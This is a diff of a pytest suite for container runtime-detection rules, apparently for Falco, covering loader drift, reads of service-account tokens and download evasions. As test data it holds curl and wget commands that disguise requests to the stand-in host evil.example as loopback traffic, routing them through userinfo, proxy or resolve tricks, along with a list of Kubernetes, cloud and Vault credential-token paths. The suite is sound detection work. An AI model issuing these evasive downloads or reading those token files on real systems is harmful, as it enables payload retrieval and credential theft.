@@ -205,9 +205,8 @@ def test_the_dynamic_loader_running_a_program_is_drift(derive: Derive, path: str
     assert [e["evt.num"] for e in derived.fired(DRIFT, DROPPED_G2.thread)] == [event["evt.num"]]
 
 
-@pytest.mark.parametrize(
-    ("path", "name"), [("/usr/bin/ld", "ld"), ("/usr/bin/ld.bfd", "ld.bfd"), ("/usr/bin/ldd", "ldd")]
-)
+# (Not ldd: glibc's ldd is a bash script, which runs the loader itself: rules 3 and 7 both fire.)
+@pytest.mark.parametrize(("path", "name"), [("/usr/bin/ld", "ld"), ("/usr/bin/ld.bfd", "ld.bfd")])
 def test_the_linker_is_not_the_loader(derive: Derive, path: str, name: str) -> None:
     derived = derive(DROPPED_G2.capture, DROPPED_G2.exec(path=path, argv=[path, "--version"], name=name))
     assert derived.events(f"{EXECVE} and {DROPPED_G2.thread}")
@@ -244,6 +243,8 @@ def _open(path: str) -> Replacements:
         f"/proc/1/root{SA}/token",
         f"/proc/self/root{SA}/..data/token",
         "/proc/1/cwd/run/secrets/kubernetes.io/serviceaccount/token",
+        "/proc/self/cwd/token",  # after changing into the token directory
+        "/proc/self/fd/3/token",  # through a descriptor of the directory
         "/var/run/secrets/eks.amazonaws.com/serviceaccount/..data/token",
         "/run/secrets/azure/tokens/azure-identity-token",
         "/var/run/secrets/tokens/vault-token",
@@ -289,6 +290,13 @@ def test_the_public_files_beside_the_token_stay_quiet(derive: Derive, path: str)
         ["curl", "-sO", "http://127.0.0.1:80@evil.example/x"],
         ["curl", "http://localhost:8080@evil.example/x"],
         ["wget", "http://[::1]:80@evil.example/x"],
+        # A loopback URL beside one that goes elsewhere, or through a proxy or resolve option.
+        ["curl", "http://evil.example/x?u=://localhost/"],
+        ["curl", "http://127.0.0.1:8080/health", "http://evil.example/x"],
+        ["curl", "-x", "http://evil.example:3128", "http://127.0.0.1/x"],
+        ["curl", "--resolve", "localhost:80:203.0.113.9", "http://localhost/x"],
+        ["python3", "-m", "pip.__main__", "install", "x"],
+        ["python3", "-m", "pip"],
     ],
     ids=" ".join,
 )
@@ -306,6 +314,8 @@ def test_download_evasions_are_downloads(derive: Derive, argv: list[str]) -> Non
         ["busybox", "wget", "-q", "-O-", "http://127.0.0.1:8080/health"],
         ["curl", "-sf", "http://[::1]:8000/v2/health/ready"],
         ["python3", "-u", "-m", "http.server", "8000"],
+        ["python3", "-m", "pipelines.serve"],
+        ["python3", "-u", "-m", "pipeline_server", "--port", "8000"],
         ["busybox", "sha256sum", "/models/model.pt"],
         ["pipewire"],
     ],
@@ -388,3 +398,31 @@ def test_unconnected_udp_includes_sendmmsg() -> None:
     # checked to select the event type; `rules check` compiles it.
     ruleset = load_paths([str(PACK)])
     assert {"connect", "sendto", "sendmsg", "sendmmsg"} <= event_types(ruleset.expanded[EGRESS].ast).names
+
+
+# -- System tools that are shell scripts ----------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("script", "name", "fires"),
+    [
+        # Ubuntu's ldconfig wraps ldconfig.real; Python's ctypes.util.find_library runs `ldconfig -p`.
+        ("/sbin/ldconfig", "ldconfig", False),
+        ("/usr/sbin/ldconfig", "ldconfig", False),
+        ("/usr/bin/which", "which", False),
+        # The same names elsewhere (written at run time) are shells like any script.
+        ("/tmp/ldconfig", "ldconfig", True),
+        ("/dev/shm/which", "which", True),
+        ("/tmp/a.sh", "a.sh", True),
+    ],
+)
+def test_a_shell_script_is_a_shell_unless_it_is_a_system_tool_of_the_image(
+    derive: Derive, script: str, name: str, fires: bool
+) -> None:
+    """Run as a script, the kernel starts the interpreter with the script's path as its first
+    argument and names the process after the script; Falco resolves the executable to the shell."""
+    argv = ["/bin/sh", script, "-p"]
+    derived = derive(SH_A1.capture, SH_A1.exec(path="/usr/bin/dash", argv=argv, name=name))
+    [event] = derived.events(f"{EXECVE} and {SH_A1.thread}")
+    assert (event["proc.name"], event["proc.args"]) == (name, f"{script} -p")
+    assert bool(derived.fired(SHELL, SH_A1.thread)) is fires
